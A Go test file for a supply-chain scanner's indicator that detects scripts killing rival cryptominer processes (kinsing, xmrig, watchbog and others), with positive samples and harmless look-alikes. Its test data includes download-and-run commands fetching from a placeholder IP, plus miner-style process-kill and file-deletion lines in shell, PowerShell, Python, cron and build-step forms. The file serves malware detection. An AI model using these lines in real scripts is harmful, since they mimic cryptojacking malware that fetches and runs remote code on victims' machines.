package rivals

import (
	"strings"
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

func TestShapes(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	script, text, config := trust.KindScript, trust.KindText, trust.KindConfig
	indicatortest.Shapes(t, ind, []indicatortest.Sample{
		{Name: "files", Path: "a.sh", Kind: script, Content: "rm -rf /tmp/kdevtmpfsi /tmp/kinsing\nrm -rf /usr/bin/sysupdate\nrm -f /tmp/watchbog\nwget http://203.0.113.7/x; nohup ./x &\n", Want: trust.Strong},
		{Name: "containers", Path: "a.sh", Kind: script, Content: "docker ps | grep kinsing | xargs docker rm -f\ndocker rm -f monero-moneroocean; docker kill xmr-stak; docker stop minerd\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "windows", Path: "a.ps1", Kind: script, Content: "taskkill /f /im xmr-stak.exe\r\ntaskkill /f /im minerd.exe\r\ntaskkill /f /im minergate.exe\r\nStop-Process -Name cpuminer\r\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "four-short", Path: "a.sh", Kind: script, Content: "pkill -f xmrig; pkill -f sysrv; pkill -f cnrig; pkill -f kinsing\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "long-list", Path: "a.py", Kind: script, Content: "for n in [\n    'kinsing',\n    'kdevtmpfsi',\n    'watchbog',\n    'kworkerds',\n]:\n    os.system('pkill -9 ' + n)\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "cron", Path: "etc/cron.d/a", Kind: text, Content: "* * * * * root pkill kinsing; pkill kdevtmpfsi; pkill watchbog; pkill minerd\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "onbuild", Path: "config:onbuild", Kind: config, Content: "RUN pkill kinsing; pkill kdevtmpfsi; pkill watchbog; pkill minerd", Want: trust.Strong},
	}, []indicatortest.Twin{
		{Name: "three", Path: "a.sh", Kind: script, Content: "pkill kinsing; pkill kdevtmpfsi; pkill watchbog; curl -O http://203.0.113.7/x; chmod +x x\n"},
		{Name: "one-often", Path: "a.sh", Kind: script, Content: "pkill kinsing; killall kinsing; rm -rf /tmp/kinsing; kill -9 $(pidof kinsing); systemctl stop kinsing\n"},
		{Name: "names-without-killing", Path: "a.sh", Kind: script, Content: "for n in kinsing kdevtmpfsi watchbog minerd cpuminer; do pgrep $n && alert $n; done\n"},
		{Name: "killing-far-away", Path: "a.py", Kind: script, Content: "BAD = ['kinsing', 'kdevtmpfsi', 'watchbog', 'minerd']\n" + farAway + "os.kill(worker.pid, 15)\n"},
		{Name: "parts-of-words", Path: "a.sh", Kind: script, Content: "pkill kinsing2; pkill minerd8; pkill watchbogs; pkill cpuminers; pkill perfctl1\n"},
		{Name: "own-services", Path: "a.sh", Kind: script, Content: "systemctl stop nginx; systemctl stop redis; pkill gunicorn; pkill celery; killall node\n"},
		{Name: "catalogue", Path: "usr/share/doc/x/threats.md", Kind: text, Content: "pkill kinsing; pkill kdevtmpfsi; pkill watchbog; pkill minerd\n"},
	})
}

// farAway is more than what is read around a name.
var farAway = strings.Repeat("x = 1\n", near)

func TestNamesLimit(t *testing.T) {
	t.Parallel()
	r := rules(t)
	for n, want := range map[int]bool{0: false, minNames - 1: false, minNames: true} {
		few := r
		few.Names, few.Short = r.Names[:n], nil
		if _, err := New(few); (err == nil) != want {
			t.Errorf("%d names: %v", n, err)
		}
	}
	r.Short = []string{"abcd"} // with the character before it, five bytes
	if _, err := New(r); err == nil || !strings.Contains(err.Error(), `" abcd" is shorter than 6 bytes`) {
		t.Errorf("got %v", err)
	}
}
